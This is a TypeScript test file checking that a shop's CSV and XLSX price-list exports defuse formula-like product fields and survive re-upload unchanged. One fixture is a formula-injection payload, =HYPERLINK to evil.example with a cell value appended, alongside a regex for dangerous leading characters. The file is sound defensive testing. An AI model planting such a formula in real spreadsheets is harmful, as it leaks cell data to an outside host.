// Files the owner opens in Excel are safe (issue 44, item 6), on SQLite and PostgreSQL: a product
// whose артикул, title, brand or characteristic starts like a formula (`=HYPERLINK(…)` from 1C)
// is exported as a defused text cell, in the CSV and in the XLSX (a string cell, never a formula;
// prices stay numbers), and uploading either file again shows no change at all.
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ADMIN_TOKEN, AUTH } from '../api/helpers'
import type { TestApp } from '../helpers/build-test-app'
import { DIALECTS } from '../helpers/dialects'
import { sendRecord, uploadPriceList } from '../helpers/multipart'

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
const DANGEROUS = /^[=+\-@\t\r]/

/** Products as the editor writes them: артикул, title, brand and one characteristic. */
const PRODUCTS = [
  { article: EVIL, title: '-Скидка 10%', vendor: '@Бренд', property: ['=1+2', '-5 шт'] },
  { article: '+7-АРТ', title: '@Дом', vendor: '=1+1', property: ['Цвет', '+синий'] },
  // Real values that start with an apostrophe come back as they are.
  { article: "'=уже с апострофом", title: "'80-е", vendor: "'Бренд", property: ['Цвет', "'-красный"] },
] as const

for (const dialect of DIALECTS) {
  describe.runIf(dialect.available)(`the price list's files in Excel on ${dialect.name}`, () => {
    let t: TestApp
    beforeAll(async () => {
      t = await dialect.build({ ADMIN_TOKEN })
      const section = await t.app.db
        .selectFrom('structure')
        .select('id')
        .where('urlFull', '=', '/structure/power-tools/')
        .executeTakeFirstOrThrow()
      for (const [i, p] of PRODUCTS.entries()) {
        const res = await sendRecord(t.app, AUTH, 'POST', '/api/structure', {
          parentId: section.id,
          typeId: 'product',
          title: p.title,
          urlFull: `/structure/power-tools/formula-${i}`,
          product: { article: p.article, price: 1500 + i, vendor: p.vendor },
          properties: [{ name: p.property[0], value: p.property[1] }],
        })
        expect(res.statusCode, res.body).toBe(201)
      }
    })
    afterAll(async () => {
      await t?.close()
    })

    const download = (format: 'xlsx' | 'csv') => t.app.inject({ url: `/api/admin/price-list.${format}`, headers: AUTH })
    const withArticle = async () =>
      (await t.app.db.selectFrom('product').select('article').where('article', 'is not', null).execute()).length

    it('writes every text cell of the CSV defused, and reads the file back without a change', async () => {
      const res = await download('csv')
      expect(res.statusCode).toBe(200)
      const text = res.rawPayload.toString('utf8')
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")";'-Скидка 10%;1500;`)
      const rows: string[][] = parse(text.slice(1), { delimiter: ';', relax_column_count: true })
      for (const cell of rows.flat()) expect(DANGEROUS.test(cell), cell).toBe(false)
      const header = rows[0]
      expect(header).toContain("'=1+2")
      const row = (article: string) => rows.find((r) => r[0] === article)!
      expect(row(`'${EVIL}`).slice(0, 4)).toEqual([`'${EVIL}`, "'-Скидка 10%", '1500', ''])
      expect(row("'+7-АРТ").slice(0, 7)).toEqual([
        "'+7-АРТ",
        "'@Дом",
        '1501',
        '',
        'В наличии',
        'Электроинструмент',
        "'=1+1",
      ])
      expect(row("''=уже с апострофом").slice(0, 2)).toEqual(["''=уже с апострофом", "'80-е"])

      const preview = await uploadPriceList(t.app, AUTH, res.rawPayload)
      expect(preview.statusCode, preview.body).toBe(200)
      expect(preview.json().data).toMatchObject({ updated: 0, created: 0, refused: [], unchanged: await withArticle() })
    })

    it('writes the XLSX with text cells that are never formulas and prices that are numbers, and reads it back without a change', async () => {
      const res = await download('xlsx')
      expect(res.statusCode).toBe(200)
      const zip = await JSZip.loadAsync(res.rawPayload)
      const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
      expect(sheets).toHaveLength(1)
      expect(await zip.file(sheets[0])!.async('string')).not.toMatch(/<f[\s>]/)

      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer)
      const sheet = workbook.worksheets[0]
      const found = new Map<string, ExcelJS.Row>()
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula)
          expect(cell.formula, cell.address).toBeUndefined()
          if (typeof cell.value === 'string') expect(DANGEROUS.test(cell.value), cell.value).toBe(false)
        })
        found.set(String(row.getCell(1).value), row)
      })
      const evil = found.get(`'${EVIL}`)!
      expect(evil.getCell(1).type).toBe(ExcelJS.ValueType.String)
      expect(evil.getCell(2).value).toBe("'-Скидка 10%")
      expect(evil.getCell(3).type).toBe(ExcelJS.ValueType.Number)
      expect(evil.getCell(3).value).toBe(1500)
      expect(found.get("'+7-АРТ")!.getCell(7).value).toBe("'=1+1")
      expect(found.get("''=уже с апострофом")!.getCell(2).value).toBe("'80-е")

      const preview = await uploadPriceList(t.app, AUTH, res.rawPayload)
      expect(preview.statusCode, preview.body).toBe(200)
      expect(preview.json().data).toMatchObject({ updated: 0, created: 0, refused: [], unchanged: await withArticle() })
    })
  })
}
